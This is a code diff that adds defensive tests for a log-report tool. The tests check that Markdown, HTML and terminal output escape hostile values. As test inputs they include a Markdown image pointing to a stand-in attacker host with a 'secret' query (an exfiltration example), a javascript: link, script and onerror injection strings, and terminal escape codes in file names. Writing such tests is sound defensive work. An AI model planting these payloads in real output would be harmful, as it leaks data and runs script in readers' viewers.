@@ -104,6 +104,16 @@ def test_markdown_escape_keeps_the_text():
     assert md_text("C:\\path") == "C:\\path"  # a backslash before a letter is literal in Markdown
 
 
+def test_markdown_links_and_images_from_logs_stay_text():
+    # An image is fetched by the viewer as soon as the report is opened: exfiltration.
+    for value in ("![x](https://evil.example/?q=secret)", "[click](javascript:alert(1))",
+                  "[a]: https://evil.example/ref"):
+        # A code fence (the chart) renders no links; everything outside it must be text.
+        md = re.sub(r"```.*?```", "", blocks_markdown(_blocks(value)), flags=re.S)
+        assert "](" not in md.replace("\\](", "") and "![" not in md, md
+        assert re.search(r"(?<!\\)\[", md.replace("- [ ]", "")) is None, md
+
+
 def test_markdown_list_items_stay_items():
     md = blocks_markdown([Note(items=["a\n# not a heading", "b"], marker="- [ ]")])
     assert md == "- [ ] a<br># not a heading\n- [ ] b\n"
@@ -273,3 +283,23 @@ def test_the_html_report_runs_no_injected_script_and_shows_the_values(tmp_path, 
     for shown in ("&lt;!--&lt;script&gt;document.body", "&lt;/script&gt;&lt;script&gt;",
                   "&lt;img src=x onerror=", "[control]", "[/]"):
         assert shown in dom, shown
+
+
+@pytest.mark.parametrize("name", ["[bold]x.jsonl", "[link=mailto:a@e.example]y.jsonl", "z\x1b[2J.jsonl"])
+def test_progress_shows_file_names_as_text(monkeypatch, name):
+    # "[bold]" in a file name was swallowed as a style, "[link=...]" made a hyperlink.
+    import io
+    from pathlib import Path
+
+    from rich.console import Console
+
+    from aimon.render import progress as progress_module
+
+    out = io.StringIO()
+    console = Console(file=out, force_terminal=True, width=120, color_system=None)
+    monkeypatch.setattr(progress_module, "err_console", console)
+    with progress_module.file_progress() as on_file:
+        on_file(0, 1, Path(name))
+        on_file(1, 1, Path(name))
+    assert visible(name) in out.getvalue()
+    assert "\x1b[2J" not in out.getvalue()
